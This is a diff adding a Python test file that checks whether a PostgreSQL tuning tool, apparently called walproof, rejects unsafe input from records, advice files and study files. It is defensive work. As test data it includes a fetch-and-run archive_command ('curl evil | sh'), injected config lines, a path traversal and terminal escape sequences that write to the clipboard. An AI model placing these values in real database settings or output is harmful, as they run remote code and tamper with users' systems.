@@ -1,0 +1,210 @@
+"""Records, advice and studies of strangers: nothing they name is run, set or written to unseen."""
+
+import json
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.fixtures.command_line import ended
+from tests.fixtures.priced_fake import FakePriced
+from tests.fixtures.priced_records import price_record, prove_record
+from tests.unit.test_cli_price import run, target
+from walproof.advising.advice_file import as_json
+from walproof.advising.advise import advise, choose_environment
+from walproof.advising.evidence import evidence_of
+from walproof.advising.recipes.catalogue import recipes
+from walproof.advising.recipes.settings import config_change, patroni_settings, postgres_settings
+from walproof.errors import UsageError
+from walproof.model.advice import Advice, ClusterProfile, Requirements
+from walproof.model.configuration import PARAMETERS, SETTABLE
+from walproof.model.event import Event, SampleDone, Started
+from walproof.model.guarantee import Level
+from walproof.pricing import tuning
+from walproof.records.layout import HEADER
+from walproof.records.reader import read
+from walproof.records.writer import Writer
+from walproof.studies.declaration import LIBRARY, read_study
+
+__all__ = ["run", "target"]
+Run = Callable[..., tuple[int, str, str]]
+CODE = (
+    ("archive_command", "curl evil | sh"),
+    ("archive_command", "reboot"),
+    ("restore_command", "evil"),
+    ("archive_cleanup_command", "evil"),
+    ("ssl_passphrase_command", "evil"),
+    ("shared_preload_libraries", "evil"),
+    ("session_preload_libraries", "evil"),
+    ("archive_library", "evil"),
+    ("jit_provider", "evil"),
+    ("dynamic_library_path", "evil"),
+    ("primary_conninfo", "host=evil"),
+    ("hba_file", "evil"),
+    ("data_directory", "evil"),
+    ("log_directory", "evil"),
+)
+
+
+def recorded(folder: Path, question: dict[str, Any]) -> None:
+    """A record of a price run that was cut short."""
+    with Writer(folder, "price") as emit:
+        emit(Started(0.0, "price", {"levels": "local,on", "clients": "1", **question}, "", 1, "1"))
+
+
+# price --resume
+
+
+def test_a_record_gives_no_consent(run: Run, target: FakePriced) -> None:
+    """What its run was allowed where it was made holds nowhere else."""
+    target.external = True
+    recorded(Path("rec"), {"target": "mine.toml", "allow": "load,config,existing-tables"})
+    code, _, err = run("--resume", "rec", "--target", "mine.toml")
+    assert (code, target.asked) == (2, [])
+    assert "--allow load" in err
+
+
+@pytest.mark.parametrize(
+    "question",
+    [
+        {"driver": "/bin/sh evil.sql"},
+        {"workload": "evil.sql"},
+        {"workload": "tpcb-like@9,evil.sql"},
+        {"init": "evil.sql"},
+        {"driver": ["/bin/sh evil.sql"]},
+        {"workload": "insert,insert"},
+    ],
+)
+def test_what_a_record_would_run_is_run_only_where_it_is_given_again(
+    run: Run,
+    target: FakePriced,
+    question: dict[str, Any],
+) -> None:
+    """A driver is a command; pgbench's \\shell and psql's \\! are too."""
+    Path("evil.sql").write_text("SELECT 1;")
+    Path("insert,insert").write_text("SELECT 1;")
+    recorded(Path("rec"), question)
+    ((name, value),) = question.items()
+    code, _, err = run("--resume", "rec")
+    assert (code, target.asked) == (2, [])
+    assert f"give it again: --{name}" in err
+    assert run("--resume", "rec", f"--{name}", "other.sql")[0] == 2
+    assert target.asked == []
+    if isinstance(value, str) and name != "driver":
+        assert run("--resume", "rec", f"--{name}", value, "--budget", "20s")[0] == 0
+
+
+@pytest.mark.parametrize("name", ["events.jsonl", HEADER, "files"])
+def test_nothing_is_written_through_a_link_of_a_record(run: Run, target: FakePriced, name: str) -> None:
+    recorded(Path("rec"), {})
+    outside = Path("outside")
+    (Path("rec") / name).rename(outside) if name != "files" else outside.mkdir()
+    (Path("rec") / name).symlink_to(outside.absolute())
+    before = outside.read_bytes() if outside.is_file() else b""
+    code, _, err = run("--resume", "rec")
+    assert (code, target.asked) == (2, [])
+    assert "links" in err
+    assert (outside.read_bytes() if outside.is_file() else b"") == before
+
+
+# advise, apply
+
+
+def advice_of(events: list[Event]) -> Advice:
+    evidence = evidence_of([("a", events), ("b", prove_record(Level.ON))])
+    return advise(evidence, Requirements(rpo_s=0.0, rto_s=30.0), choose_environment(evidence, None, None))
+
+
+def with_parameter(event: SampleDone) -> SampleDone:
+    """The same sample, under a parameter that walproof does not set."""
+    planned = event.result.sample
+    scenario = replace(planned.scenario, parameters=(("archive_command", "evil"),))
+    return replace(event, result=replace(event.result, sample=replace(planned, scenario=scenario)))
+
+
+@pytest.mark.parametrize(("name", "value"), [*CODE, ("commit_delay", "1'\nevil"), ("search_path", "evil")])
+def test_advice_sets_no_parameter_but_walproofs_own(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, value: str
+) -> None:
+    advice = advice_of(price_record())
+    choices = tuple(replace(one, parameters=((name, value),)) for one in advice.choices)
+    file = tmp_path / "advice.json"
+    file.write_text(json.dumps(as_json(replace(advice, choices=choices))))
+    code, _, err = ended(capsys, ["apply", str(file), "--target", "sim", "--allow", "config"])
+    assert code == 2
+    assert f"sets {name}" in err
+    with pytest.raises(UsageError, match="never sets"):
+        recipes(choices[0], advice.cluster)
+
+
+def test_a_record_brings_no_parameter_of_its_own_into_a_recipe(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with Writer(tmp_path / "r", "price") as emit:
+        for event in price_record():
+            emit(with_parameter(event) if isinstance(event, SampleDone) else event)
+    code, out, err = ended(capsys, ["advise", str(tmp_path / "r"), "--recipe", "plain"])
+    assert (code, out) == (2, "")
+    assert "never sets" in err
+    assert ended(capsys, ["apply", str(tmp_path / "r"), "--min-tps", "1", "--target", "sim"])[0] == 2
+
+
+@pytest.mark.parametrize(
+    "cluster",
+    [
+        ClusterProfile(members=("n1\n    option external-check", "n2")),
+        ClusterProfile(members=("n1 n2:1 backup",)),
+        ClusterProfile(patroni="3.0.\narchive_command: evil"),
+    ],
+)
+def test_a_name_from_a_record_is_one_word_of_a_recipe(cluster: ClusterProfile) -> None:
+    with pytest.raises(UsageError, match="no name"):
+        recipes(advice_of(price_record()).choices[0], cluster)
+
+
+@pytest.mark.parametrize("manager", ["patroni", "none"])
+def test_all_that_walproof_sets_is_on_the_list(manager: str) -> None:
+    (first, *_) = advice_of(price_record()).choices
+    tuned = {name for one in tuning.PARAMETERS for name, _ in one}
+    assert tuned <= PARAMETERS
+    full = replace(first, parameters=tuple((name, "1") for name in tuned))
+    assert {one.name for one in postgres_settings(full)} <= PARAMETERS
+    for version in ("", "2.1.0", "3.0.0", "4.1.0"):
+        cluster = ClusterProfile(manager, patroni=version)
+        assert set(patroni_settings(full, cluster)) <= SETTABLE
+        assert set(config_change(full, cluster).manager) <= SETTABLE
+
+
+# study
+
+
+@pytest.mark.parametrize(("name", "value"), [*CODE, ("cluster_name", "a b"), ("TimeZone", "../../etc/passwd")])
+def test_a_study_sets_numbers_and_words_on_its_lab(tmp_path: Path, name: str, value: str) -> None:
+    """Where an ordinary user's lab runs a command, it runs as that user."""
+    text = (Path(str(LIBRARY)) / "synchronous_commit" / "study.toml").read_text()
+    file = tmp_path / "study.toml"
+    file.write_text(text + f"\n[lab.parameters]\n{name} = {json.dumps(value)}\n")
+    with pytest.raises(UsageError, match="numbers and words"):
+        read_study(file)
+    file.write_text(text + '\n[lab.parameters]\nmax_wal_size = "4GB"\nwal_compression = "on"\n')
+    assert read_study(file).lab.parameters["max_wal_size"] == "4GB"
+
+
+# report
+
+
+def test_a_record_moves_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """OSC 52 writes to the clipboard; a title, colours or cleared lines say what the report does not."""
+    evil = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b2K\r"
+    with Writer(tmp_path / "r", "price") as emit:
+        for event in price_record():
+            emit(replace(event, question={"target": evil}) if isinstance(event, Started) else event)
+    header = json.loads((tmp_path / "r" / HEADER).read_text())
+    (tmp_path / "r" / HEADER).write_text(json.dumps({**header, "walproof": evil, "format": 99}))
+    record = read(tmp_path / "r")
+    assert record.started is not None and "52;c" in record.started.question["target"]
+    for words in (["report"], ["report", "--markdown"], ["advise"], ["forecast"]):
+        _, out, err = ended(capsys, [*words, str(tmp_path / "r")])
+        assert not set("\x1b\x07\x9b\r") & set(out + err), words
